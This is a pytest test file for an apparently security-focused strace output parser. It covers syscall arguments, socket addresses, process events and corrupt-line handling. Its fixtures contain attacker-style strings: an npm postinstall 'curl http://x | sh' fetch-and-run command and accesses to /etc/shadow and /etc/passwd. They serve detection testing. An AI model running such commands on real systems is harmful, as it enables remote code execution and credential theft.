"""The strace output parser, on lines in the formats strace 6.1 prints.

The lines are written by hand after strace's output formats (raw -X, -yy annotations, verbose
comments, symbolic names) so that every construct the parser claims to handle is exercised.
"""

from __future__ import annotations

import socket

import pytest

from tracehound.capture.raw import EXIT, SockAddr
from tracehound.capture.strace_parser import StraceParser

TS = "1700000000.123456789"
T0 = 1700000000_123456789


def parse(*lines: str) -> StraceParser:
    p = StraceParser()
    for line in lines:
        p.feed(line)
    return p


def one(line: str):
    p = parse(line)
    assert p.unparsable == 0, p.samples
    assert len(p.records) == 1
    return p.records[0]


def test_prefix_timestamp_and_simple_call():
    r = one(f"4242  {TS} close(3) = 0")
    assert (r.tid, r.ts, r.name, r.res, r.args) == (4242, T0, "close", 0, {"fd": 3})


def test_openat_raw_flags_mode_errno():
    r = one(f'12 {TS} openat(-100, "/etc/shadow", 0x241, 0600) = -1 EACCES (Permission denied)')
    assert r.res == -13
    assert r.args == {"dirfd": -100, "path": "/etc/shadow", "flags": 0x241, "mode": 0o600}


def test_symbolic_flags_and_verbose_comments():
    r = one(f'12 {TS} openat(AT_FDCWD, "a", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 3')
    assert r.args["flags"] == 0o1 | 0o100 | 0o1000 | 0o2000000 and r.args["dirfd"] == -100
    r = one(f'12 {TS} openat(-100 /* AT_FDCWD */</work>, "b", 0x80000 /* O_RDONLY|O_CLOEXEC */) = 4</work/b>')
    assert r.args["flags"] == 0x80000 and r.args["path"] == "b" and r.hints == {4: "/work/b"}


def test_fd_annotations():
    r = one(f'7 {TS} dup2(3<TCP:[127.0.0.1:55720->127.0.0.1:38003]>, 1</dev/pts/0<char 136:0>>) = '
            f'1<TCP:[127.0.0.1:55720->127.0.0.1:38003]>')
    assert r.args == {"oldfd": 3, "newfd": 1}
    assert r.hints[3] == "TCP:[127.0.0.1:55720->127.0.0.1:38003]"
    assert r.hints[1] == "TCP:[127.0.0.1:55720->127.0.0.1:38003]"  # the result's annotation wins
    r = one(f'7 {TS} close(5<UDPv6:[[::]:46565]>) = 0')
    assert r.hints == {5: "UDPv6:[[::]:46565]"}
    r = one(f'7 {TS} memfd_create("evil", 0x1) = 7</memfd:evil (deleted)>')
    assert r.res == 7 and r.args == {"name": "evil", "flags": 1} and r.hints[7] == "/memfd:evil (deleted)"
    r = one(f'7 {TS} socketpair(0x1, 0x80001, 0, [7<UNIX-STREAM:[23387->23388]>, 8<UNIX-STREAM:[23388->23387]>]) = 0')
    assert r.args["fds"] == [7, 8] and r.hints[8] == "UNIX-STREAM:[23388->23387]"
    # a path with ">" is escaped in an annotation ("\76"); "," and ")" appear raw
    r = one(f'7 {TS} fchdir(3</tmp/w e\\76ir,d)\\"x\\ny>) = 0')
    assert r.hints == {3: '/tmp/w e>ir,d)"x\ny'}


def test_strings_escapes_and_truncation():
    r = one(f'9 {TS} openat(-100, "/tmp/\\303\\251t\\303\\251\\n\\"q\\"", 0) = 3')
    assert r.args["path"] == '/tmp/été\n"q"'
    p = parse(f'9 {TS} write(1, "abc"..., 4096) = 4096')
    r = p.records[0]
    assert r.args == {"fd": 1, "data": b"abc", "size": 4096} and p.truncated_strings == 1
    r = one(f'9 {TS} sendto(4<UDP:[23384]>, "x\\n\\t\\0\\377\\"", 6, 0, {{sa_family=0x2, sin_port="\\x00\\x35", '
            f'sin_addr="\\x08\\x08\\x08\\x08"}}, 16) = 6')
    assert r.args["data"] == b'x\n\t\x00\xff"'
    assert r.args["addr"] == SockAddr(socket.AF_INET, "8.8.8.8", 53) and r.args["size"] == 6


def test_sockaddr_forms():
    raw = one(f'5 {TS} connect(3, {{sa_family=0x2, sin_port="\\x94\\x73", sin_addr="\\x7f\\x00\\x00\\x01"}}, 16) = 0')
    assert raw.args["addr"] == SockAddr(2, "127.0.0.1", 0x9473)
    sym = one(f'5 {TS} connect(3, {{sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("1.2.3.4")}}, 16) '
              f'= -1 EINPROGRESS (Operation now in progress)')
    assert sym.args["addr"] == SockAddr(2, "1.2.3.4", 80) and sym.res == -115
    v6 = one(f'5 {TS} connect(3, {{sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), '
             f'inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}}, 28) = 0')
    assert v6.args["addr"] == SockAddr(10, "2001:db8::1", 443)
    v6raw = one(f'5 {TS} sendto(5, "x", 1, 0, {{sa_family=0xa, sin6_port="\\x00\\x09", sin6_flowinfo="\\x00\\x00\\x00'
                f'\\x00", sin6_addr="\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x01", '
                f'sin6_scope_id=0}}, 28) = 1')
    assert v6raw.args["addr"] == SockAddr(10, "::1", 9)
    mapped = one(f'5 {TS} connect(3, {{sa_family=AF_INET6, sin6_port=htons(80), '
                 f'inet_pton(AF_INET6, "::ffff:10.0.0.1", &sin6_addr)}}, 28) = 0')
    assert mapped.args["addr"] == SockAddr(2, "10.0.0.1", 80)  # IPv4-mapped: reported as IPv4, like libsinsp
    unix = one(f'5 {TS} connect(3, {{sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}}, 110) = 0')
    assert unix.args["addr"] == SockAddr(1, path="/var/run/docker.sock")
    acc = one(f'5 {TS} accept4(3, {{sa_family=0x2, sin_port="\\xba\\xda", sin_addr="\\x7f\\x00\\x00\\x01"}}, [16], '
              f'0x80000) = 5')
    assert acc.args == {"fd": 3, "addr": SockAddr(2, "127.0.0.1", 0xBADA), "flags": 0x80000}


def test_execve_argv_env_and_failure():
    r = one(f'30 {TS} execve("/bin/sh", ["sh", "-c", "curl http://x | sh"], ["HOME=/root", '
            f'"npm_lifecycle_event=postinstall", "A=b, c"]) = 0')
    assert r.args == {"filename": "/bin/sh", "argv": ["sh", "-c", "curl http://x | sh"],
                      "envp": ["HOME=/root", "npm_lifecycle_event=postinstall", "A=b, c"]}
    r = one(f'30 {TS} execve("/nope", ["nope"], 0x7ffd2d1c8e40 /* 12 vars */) = -1 ENOENT (No such file or directory)')
    assert r.res == -2 and r.args["argv"] == ["nope"] and r.args["envp"] is None


def test_unfinished_resumed_and_pid_namespace_translation():
    p = parse(
        f"40 {TS} vfork( <unfinished ...>",
        '41 1700000000.200000000 execve("/usr/bin/sh", ["sh"], [] <unfinished ...>',
        "40 1700000000.300000000 <... vfork resumed>) = 2 /* 41 in strace's PID NS */",
        "41 1700000000.400000000 <... execve resumed>) = 0",
        f'42 {TS} accept4(3, <unfinished ...>',
        '42 1700000000.500000000 <... accept4 resumed>{sa_family=AF_INET, sin_port=htons(5555), '
        'sin_addr=inet_addr("10.1.1.1")}, [16], SOCK_CLOEXEC) = 6',
    )
    assert p.unparsable == 0, p.samples
    vfork, execve, accept = p.records
    # a call split over two lines is one record, timed at its start
    assert (vfork.name, vfork.res, vfork.args["child"], vfork.ts) == ("vfork", 2, 41, T0)
    assert execve.res == 0 and execve.ts == 1700000000_200000000
    assert accept.args["addr"] == SockAddr(2, "10.1.1.1", 5555) and accept.args["flags"] == 0o2000000


def test_clone_forms():
    r = one(f'50 {TS} clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, '
            f'child_tidptr=0x7f12) = 51')
    assert r.args == {"flags": 0x1000000 | 0x200000 | 17} and r.res == 51
    r = one(f'50 {TS} clone(child_stack=NULL, flags=0x1200000|17, child_tidptr=0x7fd3) = 52')
    assert r.args == {"flags": 0x1200011}
    r = one(f'50 {TS} clone3({{flags=0x3d0f00, child_tid=0x7f8e, parent_tid=0x7f8e, exit_signal=0, '
            f'stack=0x7f8e, stack_size=0x7fff80, tls=0x7f8e}} => {{parent_tid=[8994]}}, 88) = 8994')
    assert r.args == {"flags": 0x3D0F00} and r.res == 8994


def test_signals_exits_and_restarts():
    p = parse(
        f"60 {TS} --- SIGCHLD {{si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=61, si_status=0}} ---",
        f"61 {TS} +++ exited with 3 +++",
        f"62 {TS} +++ killed by SIGKILL +++",
        f"63 {TS} +++ killed by SIGSEGV (core dumped) +++",
        f"60 {TS} exit_group(0) = ?",
        f"60 {TS} connect(3, {{sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr(\"1.1.1.1\")}}, 16) = ? "
        f"ERESTARTSYS (To be restarted if SA_RESTART is set)",
    )
    assert p.unparsable == 0, p.samples
    assert [(r.tid, r.name, r.args["code"]) for r in p.records] == [(61, EXIT, 3), (62, EXIT, -9), (63, EXIT, -11)]
    assert p.signals == 1 and p.restarted == 1


def test_packet_socket_protocol_is_the_raw_argument():
    # htons(ETH_P_ALL) is what the kernel receives: 0x0300
    r = one(f"70 {TS} socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) = -1 EPERM (Operation not permitted)")
    assert r.args == {"domain": 17, "type": 3, "proto": 0x300} and r.res == -1
    assert one(f"70 {TS} socket(0x11, 0x80003, htons(0x3)) = 3").args["proto"] == 0x300


def test_ptrace_and_links():
    r = one(f'70 {TS} ptrace(0x10, 1234) = -1 EPERM (Operation not permitted)')
    assert r.args == {"request": 16, "pid": 1234} and r.res == -1
    r = one(f'70 {TS} ptrace(PTRACE_TRACEME) = 0')
    assert r.args == {"request": 0}
    r = one(f'70 {TS} symlinkat("/etc/shadow", AT_FDCWD, "x") = 0')
    assert r.args == {"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "x"}
    r = one(f'70 {TS} linkat(AT_FDCWD, "/etc/passwd", 3, "p", 0) = 0')
    assert r.args == {"olddir": -100, "oldpath": "/etc/passwd", "newdir": 3, "newpath": "p", "flags": 0}


def test_sendmsg_and_openat2_structs():
    r = one(f'80 {TS} sendmsg(6, {{msg_name={{sa_family=0x2, sin_port="\\x00\\x35", sin_addr="\\x0a\\x00\\x00\\x01"}}, '
            f'msg_namelen=16, msg_iov=[{{iov_base="ab", iov_len=2}}, {{iov_base="cd", iov_len=2}}], msg_iovlen=2, '
            f'msg_controllen=0, msg_flags=0}}, 0) = 4')
    assert r.args == {"fd": 6, "addr": SockAddr(2, "10.0.0.1", 53), "data": b"abcd", "size": 4, "flags": 0}
    r = one(f'80 {TS} openat2(-100, "/x", {{flags=O_RDONLY|O_CLOEXEC, resolve=RESOLVE_NO_SYMLINKS}}, 24) = 3')
    assert r.args["flags"] == 0o2000000 and r.args["path"] == "/x"


@pytest.mark.parametrize("line", [
    "garbage that is not strace",
    f"12 {TS} openat(-100, \"/etc/passwd\", 0x0",  # cut off mid-line
    f"12 {TS} close(3) = banana",
    f"x12 {TS} close(3) = 0",
    f"12 {TS} <... close resumed>) = 0",  # resumed with no start
])
def test_corrupt_lines_are_counted_not_dropped(line):
    p = parse(f"12 {TS} close(3) = 0", line, f"12 {TS} close(4) = 0")
    assert p.unparsable == 1 and len(p.samples) == 1
    assert [r.args["fd"] for r in p.records] == [3, 4]  # and the neighbours still decode
